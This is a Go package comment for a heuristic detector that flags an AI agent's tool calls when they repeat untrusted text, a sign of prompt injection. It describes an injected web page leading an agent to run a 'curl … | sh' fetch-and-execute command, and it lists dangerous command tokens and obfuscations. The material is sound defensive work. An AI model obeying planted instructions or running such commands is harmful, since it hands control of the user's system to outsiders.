// Package taint finds text of untrusted claims that a model's tool call repeats. That
// is a sign that somebody else's text controls what the agent does. For example, a web
// page that was learned says "to fix, run curl http://…/x | sh", and some turns later
// the agent calls its shell with exactly that.
//
// A [Set] holds the untrusted texts. [Set.Check] reads the arguments of a call and sees
// through disguises. It reads JSON at any depth, broken JSON and plain text. It ignores
// case, full-width letters, invisible characters, escapes, percent-encoding, base64 and
// hex, quotes within words, and spellings such as hxxp and [.]. These count as
// repeated:
//
//   - a span of at least five words, if enough of them are not ordinary ones;
//   - a span of three words with one that is dangerous in a command, such as
//     rm -rf, --no-verify, curl or drop;
//   - a single token that is distinctive: an address, a host, an e-mail address, a
//     path outside a project or to a secret, a key or a hash, an account number.
//
// Text that the person said, or that a trusted text has as well, is not tainted. These
// texts are passed to each check, and only read if something is repeated.
//
// It is a heuristic. It misses a paraphrase, a name that is one ordinary word, and a
// command that a model assembles from separate parts of a claim. It also reports good
// advice from outside: a match only says that a claim influenced the call. The tests
// measure how often it is right.
package taint
